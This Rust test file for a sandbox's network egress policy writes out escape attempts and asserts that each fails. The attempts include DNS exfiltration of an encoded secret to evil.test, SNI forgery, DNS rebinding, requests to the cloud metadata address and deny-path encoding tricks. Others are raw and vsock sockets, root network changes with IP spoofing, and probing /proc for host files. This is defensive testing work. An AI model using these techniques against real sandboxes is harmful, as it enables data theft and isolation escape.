//! Ways around the policy, each of which must lead nowhere. The tests look at the addresses that the proxy was asked to
//! dial and the names that the zone was asked to resolve, not only at the attacker's output.

use crate::common::outside::{OTHER, Outside, SHARED, WEB, allow, policy, sandbox};
use atoll_blackbox::{Server, has_own_kernel};
use atoll_core::policy::EgressPolicy;
use serde_json::json;

const CURL: &str = "curl -sS --max-time 20 -w '%{http_code}\\n'";

/// Runs Python inside. Arguments of the shell must not hold double quotes.
pub(crate) async fn python(server: &Server, id: &str, code: &str) -> String {
    let create = atoll_api::CreateExec {
        argv: Some(["python3", "-c", code].map(str::to_owned).to_vec()),
        ..atoll_api::CreateExec::default()
    };
    let done = server.run(id, create).await;
    let (out, err) = crate::common::outputs(server, id, &done.exec.id).await;
    format!("{}{}", String::from_utf8_lossy(&out), String::from_utf8_lossy(&err))
}

#[tokio::test(flavor = "multi_thread")]
async fn nobody_connects_to_where_no_request_may_pass() {
    let outside = Outside::new();
    outside.web(&format!("{WEB}:80"));
    let server = outside.server();
    // TLS has to be opened for such a rule, and the server outside is asked first how it speaks.
    let rules = json!({"internet": "on", "rules": [{"action": "deny", "methods": ["POST"]}]});
    let id = sandbox(&server, policy(rules)).await.id;
    for to in ["rebind.test", "lan.test"] {
        for line in [
            format!("curl -sSk --max-time 20 https://{to}/"),
            format!("curl -sSk --max-time 20 -x http://10.0.2.2:3128 https://{to}/"),
            format!(
                "printf x | openssl s_client -connect $(getent hosts {to} | cut -d' ' -f1):443 -servername {to} 2>&1"
            ),
        ] {
            server.sh(&id, &line).await;
        }
    }
    assert_eq!(outside.dials(), Vec::<String>::new());
    // However a path is written, a denied request does not get out.
    let rules = json!({"internet": "on", "rules": [{"action": "deny", "path": "/admin*"}]});
    let id = sandbox(&server, policy(rules)).await.id;
    let ok = server.sh(&id, &format!("{CURL} http://web.test/x -o /dev/null")).await;
    assert_eq!(ok.stdout, "200\n");
    for path in ["/admin", "/%61dmin", "/ADMIN", "/;/admin", "/a;b"] {
        let refused = server.sh(&id, &format!("{CURL} 'http://web.test{path}' -o /dev/null")).await;
        assert_eq!(refused.stdout, "403\n", "{path}");
    }
    server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_server_and_what_its_operator_closed_are_no_part_of_the_internet() {
    let outside = Outside::new();
    for address in [WEB, OTHER, SHARED] {
        outside.web(&format!("{address}:80"));
    }
    outside.name("atoll.test", OTHER);
    outside.name("1-atoll.ports.test", SHARED);
    let closed = format!("{WEB}/32");
    let server = outside.server_with(&[
        "--closed-cidr",
        &closed,
        "--public-url",
        "https://atoll.test",
        "--domain",
        "ports.test",
    ]);
    let id = sandbox(&server, EgressPolicy::open()).await.id;
    // The addresses of its names are looked up when the first sandbox is there.
    atoll_blackbox::wait_until("the server's names", async || {
        outside.questions().iter().any(|asked| asked.starts_with("1-atoll.ports.test 28")).then_some(())
    })
    .await;
    for to in [WEB, OTHER, SHARED, "atoll.test", "3000-web.ports.test"] {
        let refused = server.sh(&id, &format!("{CURL} -o /dev/null http://{to}/")).await;
        assert_ne!(refused.stdout, "200\n", "{to}: {refused:?}");
    }
    assert_eq!(outside.dials(), Vec::<String>::new());
    let rules = json!({"internet": "on", "rules": [{"action": "allow", "cidr": WEB}, {"action": "allow", "cidr": OTHER}]});
    let id = sandbox(&server, policy(rules)).await.id;
    for to in [WEB, OTHER] {
        let reached = server.sh(&id, &format!("{CURL} -o /dev/null http://{to}/")).await;
        assert_eq!(reached.stdout, "200\n", "{to}");
    }
    server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_forged_server_name_on_another_address() {
    let outside = Outside::new();
    outside.banner(&format!("{OTHER}:443"));
    let server = outside.server();
    let id = sandbox(&server, allow(&["tls.test:443", "*.cdn.test"])).await.id;
    // The name is looked up, so it is known; only the address is another one.
    let forged = format!(
        "getent hosts tls.test; openssl s_client -connect {OTHER}:443 -servername tls.test </dev/null 2>&1"
    );
    assert!(server.sh(&id, &forged).await.stdout.contains("alert"));
    // In pieces, slowly, and after a silence that looks like waiting for the server.
    let slow = format!(
        "import socket, ssl, time\n\
         c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n\
         i, o = ssl.MemoryBIO(), ssl.MemoryBIO()\nt = c.wrap_bio(i, o, server_hostname='tls.test')\n\
         try: t.do_handshake()\nexcept ssl.SSLWantReadError: pass\nhello = o.read()\n\
         for pause in (0, 1):\n  s = socket.create_connection(('{OTHER}', 443), 20); time.sleep(pause)\n  \
         try:\n    for b in range(0, len(hello), 100): s.sendall(hello[b:b+100]); time.sleep(0.01)\n    \
         print('got', s.recv(100))\n  except OSError as e: print('error', e)"
    );
    let out = python(&server, &id, &slow).await;
    assert!(!out.contains("220 welcome"), "{out}");
    assert_eq!(outside.dials(), Vec::<String>::new());
    server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn data_in_names() {
    let outside = Outside::new();
    let server = outside.server();
    let id = sandbox(&server, allow(&["web.test", "*.cdn.test"])).await.id;
    let secret = "c2VjcmV0".repeat(7);
    for dig in [
        // Of a name that no rule allows, of any type, by any resolver, over any transport.
        format!("dig +tries=1 +time=5 {secret}.evil.test"),
        format!("dig +tries=1 +time=5 {secret}.evil.test TXT"),
        format!("dig +tries=1 +time=5 +tcp {secret}.evil.test"),
        format!("dig +tries=1 +time=2 @8.8.8.8 {secret}.evil.test"),
        format!("dig +tries=1 +time=2 +tcp @8.8.8.8 {secret}.evil.test"),
        // Of an allowed one, but of a kind that only carries data, or longer than names are.
        format!("dig +tries=1 +time=5 {secret}.cdn.test TXT"),
        format!("dig +tries=1 +time=5 {secret}.cdn.test NULL"),
        format!("dig +tries=1 +time=5 {secret}.cdn.test ANY"),
        format!("dig +tries=1 +time=5 {secret}.cdn.test HTTPS"),
        format!("dig +tries=1 +time=5 {secret}.{secret}.{secret}.cdn.test"),
        "dig +tries=1 +time=5 -x 93.184.215.14".to_owned(),
        // Within an allowed one's own zone it is the owner of that zone who hears it.
        "dig +tries=1 +time=5 web.test".to_owned(),
    ] {
        server.sh(&id, &dig).await;
    }
    assert_eq!(outside.questions(), ["web.test 1"]);
    let why = server.sh(&id, "dig +tries=1 +time=5 x.evil.test").await;
    assert!(why.stdout.contains("NXDOMAIN") && why.stdout.contains("no rule allows it"), "{why:?}");
    assert_eq!(outside.dials(), Vec::<String>::new());
    // Many different names under an allowed one run dry.
    let many = "import socket\nfor i in range(600):\n  try: socket.getaddrinfo(f'n{i}.cdn.test', 80, socket.AF_INET)\n  except OSError: pass";
    let begin = std::time::Instant::now();
    python(&server, &id, many).await;
    // Ten seconds' worth are saved up, then so many a second, however long it took.
    let most = 200 + 20 * (begin.elapsed().as_secs() + 2) + 1;
    let heard = outside.questions().len() as u64;
    assert!(heard <= most, "{heard} of 600 names were passed on");
    server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn other_resolvers_even_where_the_internet_is_on() {
    let outside = Outside::new();
    outside.banner("8.8.8.8:53");
    outside.banner("8.8.8.8:853");
    outside.web(&format!("{WEB}:80"));
    let server = outside.server();
    let id = sandbox(&server, EgressPolicy::open()).await.id;
    server
        .sh(&id, "dig +tries=1 +time=2 @8.8.8.8 web.test; dig +tries=1 +time=2 +tcp @8.8.8.8 web.test")
        .await;
    server.sh(&id, "openssl s_client -connect 8.8.8.8:853 </dev/null").await;
    assert_eq!(outside.dials(), Vec::<String>::new());
    // DNS over HTTPS is a website, and needs a rule like one where the internet is not on.
    let rules = sandbox(&server, allow(&["web.test"])).await.id;
    for to in ["https://8.8.8.8/dns-query", "https://dns.test/dns-query", "http://8.8.8.8/dns-query"] {
        let asked = server.sh(&rules, &format!("curl -sSk --max-time 20 '{to}?dns=AAABAAABAAA'")).await;
        assert!(asked.code != Some(0) || asked.stdout.contains("Atoll refused"), "{to}: {asked:?}");
    }
    assert_eq!(outside.dials(), Vec::<String>::new());
    // An address that was found elsewhere does not get around a name that is denied.
    let denied = json!({"internet": "on", "rules": [{"action": "deny", "domain": "web.test"}]});
    let id = sandbox(&server, policy(denied)).await.id;
    let found =
        server.sh(&id, &format!("{CURL} --resolve web.test:80:{WEB} http://web.test/ -o /dev/null")).await;
    assert_eq!(found.stdout, "403\n", "{found:?}");
    let forged = server.sh(&id, &format!("{CURL} -H 'Host: fine.test' http://{WEB}/ -o /dev/null")).await;
    assert_eq!(forged.stdout, "403\n", "{forged:?}");
    assert_eq!(outside.dials(), Vec::<String>::new());
    server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn private_addresses_the_host_and_its_neighbours() {
    let outside = Outside::new();
    let server = outside.server();
    let id = sandbox(&server, EgressPolicy::open()).await.id;
    let port = server.url.rsplit(':').next().unwrap().to_owned();
    // By address, by a name that rebinds, by other ways to write it.
    for to in [
        "169.254.169.254",
        "10.0.0.1",
        "192.168.77.1",
        "172.17.0.1",
        "100.100.100.200",
        "198.18.0.1",
        "0.0.0.1",
        "240.0.0.1",
        "rebind.test",
        "lan.test",
    ] {
        let refused = server.sh(&id, &format!("{CURL} http://{to}/")).await;
        assert!(refused.stdout.ends_with("403\n") || refused.code != Some(0), "{to}: {refused:?}");
        let proxied = server.sh(&id, &format!("{CURL} -x http://10.0.2.2:3128 http://{to}/")).await;
        assert!(proxied.stdout.ends_with("403\n"), "{to}: {proxied:?}");
    }
    for to in [
        format!("127.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.1]:{port}"),
    ] {
        let proxied =
            server.sh(&id, &format!("{CURL} -x http://10.0.2.2:3128 http://{to}/healthz -o /dev/null")).await;
        assert!(proxied.stdout.starts_with('4') || proxied.stdout.starts_with("502"), "{to}: {proxied:?}");
    }
    // A name that is public when it is looked up and private when it is used.
    outside.name("turn.test", "9.9.9.9");
    server.sh(&id, "getent hosts turn.test").await;
    outside.name("turn.test", "127.0.0.1");
    let turned = server
        .sh(
            &id,
            &format!(
                "sleep 1.2; {CURL} -x http://10.0.2.2:3128 http://turn.test:{port}/healthz -o /dev/null"
            ),
        )
        .await;
    assert_eq!(turned.stdout, "403\n", "{turned:?}");
    // Another sandbox.
    let other = sandbox(&server, EgressPolicy::open()).await.id;
    server.shell(&other, "exec python3 -m http.server --bind 0.0.0.0 8000").await;
    assert!(server.sh(&id, "curl -s --max-time 5 http://10.0.2.15:8000/").await.code != Some(0));
    assert_eq!(outside.dials(), Vec::<String>::new());
    // A rule by address is what opens one.
    let opened =
        json!({"internet": "rules", "rules": [{"action": "allow", "cidr": "127.0.0.1", "ports": [port]}]});
    let id = sandbox(&server, policy(opened)).await.id;
    let reached =
        server.sh(&id, &format!("{CURL} -x http://10.0.2.2:3128 {}/healthz -o /dev/null", server.url)).await;
    assert_eq!(reached.stdout, "200\n", "{reached:?}");
    server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn everything_that_is_not_tcp() {
    let outside = Outside::new();
    let server = outside.server();
    let id = sandbox(&server, EgressPolicy::open()).await.id;
    let tries = "
import socket, struct
def echo():
    total = lambda packet: sum(struct.unpack('!%dH' % (len(packet) // 2), packet))
    packet = struct.pack('!BBHHH', 8, 0, 0, 1, 1) + b'x' * 56
    rest = total(packet); rest = (rest >> 16) + (rest & 0xffff); rest += rest >> 16
    return packet[:2] + struct.pack('!H', ~rest & 0xffff) + packet[4:]
def attempt(what, family, kind, protocol, to):
    try:
        s = socket.socket(family, kind, protocol); s.settimeout(2)
        data = echo() if protocol == 1 else b'x' * 64
        s.connect(to) if kind == socket.SOCK_DGRAM else None
        s.sendto(data, to) if kind != socket.SOCK_DGRAM else s.send(data)
        s.recv(100); print(what, 'ANSWERED')
    except Exception as e: print(what, type(e).__name__)
attempt('dns', 2, 2, 0, ('8.8.8.8', 53))
attempt('quic', 2, 2, 0, ('93.184.215.14', 443))
attempt('ping', 2, 2, 1, ('8.8.8.8', 0))
attempt('icmp', 2, 3, 1, ('8.8.8.8', 0))
attempt('raw', 2, 3, 255, ('8.8.8.8', 0))
attempt('sctp', 2, 1, 132, ('8.8.8.8', 80))
attempt('udplite', 2, 2, 136, ('8.8.8.8', 53))
attempt('udp6', 10, 2, 0, ('2001:4860:4860::8888', 53))
attempt('mapped', 10, 2, 0, ('::ffff:8.8.8.8', 53))
attempt('vsock', 40, 1, 0, (2, 22))
";
    let out = python(&server, &id, tries).await;
    assert_eq!(out.lines().count(), 10, "{out}");
    assert!(!out.contains("ANSWERED"), "{out}");
    // No change of the network by root inside; where it has a kernel of its own, none that helps.
    for change in [
        "ip link add d0 type dummy",
        "ip addr add 1.2.3.4/32 dev lo",
        "ip route add 1.1.1.1 dev lo",
        "nft add table ip x",
    ] {
        assert!(server.sh(&id, change).await.code != Some(0) || has_own_kernel(), "{change}");
    }
    if has_own_kernel() {
        let other = "ip addr replace 10.0.2.77/24 dev eth0; ip route replace default via 10.0.2.2 dev eth0 src 10.0.2.77";
        assert_eq!(server.sh(&id, other).await.code, Some(0));
        assert!(!python(&server, &id, tries).await.contains("ANSWERED"));
        let spoofed = format!("{CURL} --interface 10.0.2.77 --max-time 3 http://{WEB}/");
        assert_ne!(server.sh(&id, &spoofed).await.code, Some(0));
    }
    assert_eq!((outside.dials(), outside.questions()), (vec![], vec![]));
    server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn squatters_and_sockets_of_the_host() {
    let outside = Outside::new();
    let seen = outside.web(&format!("{WEB}:80"));
    let mut server = outside.server();
    let id = sandbox(&server, allow(&["web.test:80"])).await.id;
    // A program inside listens on all addresses: it catches neither the connections that other programs make, nor the
    // gateway's own.
    let squat = "import socket, time\nk = []\n\
        for port in (80, 443, 3128, 8080):\n  s = socket.socket(); s.setsockopt(1, 2, 1); s.bind(('0.0.0.0', port)); s.listen(); k.append(s)\n\
        print('ready', flush=True); time.sleep(600)";
    let create = atoll_api::CreateExec {
        argv: Some(["python3", "-c", squat].map(str::to_owned).to_vec()),
        ..atoll_api::CreateExec::default()
    };
    let exec = server.client.create_exec(&id, &create).await.unwrap().exec.id;
    crate::common::follow(&server, &id, &exec, 6).await;
    let get = format!("{CURL} http://web.test/");
    assert!(server.sh(&id, &get).await.stdout.contains("hello from"));
    let proxied = format!("{CURL} -x http://10.0.2.2:3128 http://web.test/");
    assert!(server.sh(&id, &proxied).await.stdout.contains("hello from"));
    // Nor does it after a restart in which it was there first.
    server.kill();
    server.restart();
    let again = atoll_blackbox::wait_until("the network is taken up", async || {
        server.sh(&id, &get).await.stdout.contains("hello from").then_some(())
    });
    again.await;
    assert!(server.sh(&id, &proxied).await.stdout.contains("hello from"));
    assert!(!seen.lock().unwrap().is_empty());
    // Nothing of the server's own sockets is to be found from inside.
    let search =
        "ls -d /proc/[0-9]*/root/var/lib/atoll /proc/[0-9]*/root/var/lib/dpkg /proc/[0-9]*/root/boot";
    assert_ne!(server.sh(&id, search).await.code, Some(0));
    let unix = "cat /proc/net/unix | grep -v guest | grep -ci atoll";
    assert_eq!(server.sh(&id, unix).await.stdout, "0\n");
    server.finish().await;
}
